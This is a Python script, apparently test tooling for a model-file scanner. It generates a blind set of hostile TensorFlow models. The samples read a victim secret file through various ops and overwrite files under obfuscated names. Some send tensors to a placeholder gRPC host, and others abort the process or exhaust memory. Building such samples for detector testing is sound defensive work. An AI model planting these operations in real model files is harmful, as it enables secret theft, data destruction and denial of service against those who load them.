"""Write the TensorFlow models of the fourth blind set: `PYTHONPATH=tests python unseen4_write_graphs.py OUT`."""
# mypy: ignore-errors

# ruff: noqa: E501 (payloads are kept whole)
from __future__ import annotations

import sys
import tempfile
from pathlib import Path

import tensorflow as tf

OUT = Path(sys.argv[1])
RAW = tf.raw_ops
SECRET, KEEP = "/tmp/victim/secret.txt", "/tmp/victim/keep.txt"
ADDRESS = "grpc://updates.example.net:8080"


def lines(x):
    for line in tf.data.TextLineDataset(SECRET).take(1):
        tf.debugging.assert_type(line, tf.string)
    return x


def records(x):
    first = RAW.FixedLengthRecordDatasetV2(
        filenames=[SECRET], header_bytes=0, record_bytes=7, footer_bytes=0, buffer_size=0, compression_type=""
    )
    return x + tf.cast(
        RAW.ReduceDataset(
            input_dataset=first,
            initial_state=[tf.constant(0)],
            other_arguments=[],
            f=_count(),
            output_types=[tf.int32],
            output_shapes=[[]],
        )[0],
        tf.float32,
    )


def _count():
    @tf.function(input_signature=[tf.TensorSpec([], tf.int32), tf.TensorSpec([], tf.string)])
    def count(a, b):
        return a + 1

    return count.get_concrete_function()


def cache_file(x):
    for value in tf.data.Dataset.range(3).cache("/tmp/xcache"):
        x += tf.cast(value, tf.float32)
    return x


def save_dataset(x):
    tf.data.Dataset.range(3).save("/tmp/xsaved")
    return x


def save_tensors(x):
    RAW.SaveV2(prefix="/tmp/xweights", tensor_names=["a"], shape_and_slices=[""], tensors=[x])
    return x


def save_slices(x):
    RAW.SaveSlices(filename="/tmp/xslices", tensor_names=["a"], shapes_and_slices=[""], data=[x])
    return x


def immutable(x):
    return x + RAW.ImmutableConst(dtype=tf.float32, shape=[1], memory_region_name=SECRET)[0]


def debug_file(x):
    return RAW.DebugIdentityV2(input=x, tensor_debug_mode=1, debug_urls=["file:///tmp/xdebug"])


def debug_address(x):
    return RAW.DebugIdentityV3(input=x, debug_urls=[ADDRESS], gated_grpc=False)


def service(x):
    data = tf.data.experimental.service.from_dataset_id(
        "distributed_epoch", ADDRESS, tf.constant(1, tf.int64), element_spec=tf.TensorSpec([], tf.int64)
    )
    for value in data:
        x += tf.cast(value, tf.float32)
    return x


def table(x):
    handle = RAW.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64)
    RAW.InitializeTableFromTextFileV2(table_handle=handle, filename=SECRET, key_index=-2, value_index=-1)
    return x


def proto_source(x):
    RAW.DecodeProtoV2(
        bytes=[b""], message_type="a.B", field_names=["c"], output_types=[tf.int32], descriptor_source=SECRET
    )
    return x


def vocabulary(x):
    RAW.GenerateVocabRemapping(new_vocab_file=SECRET, old_vocab_file=SECRET, new_vocab_offset=0, num_new_vocab=1)
    return x


def sql(x):
    query = "ATTACH DATABASE '/tmp/xdb' AS a"
    for value in tf.data.experimental.SqlDataset("sqlite", "/tmp/xdb", query, tf.string):
        x += tf.cast(tf.strings.length(value), tf.float32)
    return x


def snapshot(x):
    for value in tf.data.Dataset.range(3).snapshot("/tmp/xsnap"):
        x += tf.cast(value, tf.float32)
    return x


def computed_name(x):
    name = tf.strings.join(
        ["/tmp/vic", "tim/", tf.strings.reduce_join(tf.strings.unicode_split("txt.peek", "UTF-8")[::-1])]
    )
    RAW.WriteFile(filename=tf.strings.regex_replace(name, "peek", "keep"), contents="gone")
    return x


def branch(x):
    return tf.cond(tf.reduce_sum(x) > -1e9, lambda: _written(x), lambda: x)


def _written(x):
    with tf.control_dependencies([RAW.WriteFile(filename=KEEP, contents="gone")]):
        return tf.identity(x)


def in_map(x):
    for value in tf.data.Dataset.range(1).map(lambda a: tf.strings.length(tf.io.read_file(SECRET))):
        x += tf.cast(value, tf.float32)
    return x


def abort(x):
    RAW.Abort(error_msg="", exit_without_error=False)
    return x


def huge(x):
    return x + tf.reduce_sum(tf.fill([tf.constant(1 << 16), tf.constant(1 << 16)], 1.0))


def write_from_host_name(x):
    parts = tf.strings.split("keep.txt,victim,tmp,", ",")
    RAW.WriteFile(filename=tf.strings.reduce_join(parts[::-1], separator="/"), contents=tf.strings.as_string(x))
    return x


ALL = (lines, cache_file, save_dataset, save_tensors, save_slices, immutable, debug_file, debug_address, service, table,
       proto_source, vocabulary, sql, snapshot, computed_name, branch, in_map, abort, huge, write_from_host_name, records)  # fmt: skip


def write(function):
    class Model(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([], tf.float32, name="x")])
        def __call__(self, x):
            return tf.identity(function(x))

    model = Model()
    name = function.__name__.replace("_", "-")
    target = OUT / "saved-model" / name
    tf.saved_model.save(model, str(target), signatures={"serving_default": model.__call__})
    (target / "fingerprint.pb").unlink(missing_ok=True)
    concrete = model.__call__.get_concrete_function()
    if name in {"save-tensors", "immutable", "debug-file", "computed-name", "branch", "in-map"}:
        converter = tf.lite.TFLiteConverter.from_concrete_functions([concrete], model)
        converter.target_spec.supported_ops = [tf.lite.OpsSet.TFLITE_BUILTINS, tf.lite.OpsSet.SELECT_TF_OPS]
        path = OUT / "tflite" / name / "model.tflite"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(converter.convert())
    if name in {"save-tensors", "immutable", "debug-file", "save-slices", "vocabulary", "abort"}:
        path = OUT / "graph" / name / "frozen.pb"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(concrete.graph.as_graph_def().SerializeToString(deterministic=True))
    if name in {"computed-name", "debug-file", "proto-source"}:
        with tf.Graph().as_default():
            x = tf.compat.v1.placeholder_with_default(1.0, [], name="x")
            with tf.control_dependencies([]):
                tf.identity(function(x), name="y")
            path = OUT / "meta" / name
            path.mkdir(parents=True, exist_ok=True)
            tf.compat.v1.train.export_meta_graph(str(path / "model.ckpt.meta"), saver_def=None)


if __name__ == "__main__":
    with tempfile.TemporaryDirectory():
        for one in ALL:
            try:
                write(one)
            except Exception as error:  # what this release of TensorFlow does not trace is left out
                print(one.__name__, type(error).__name__, str(error)[:300])
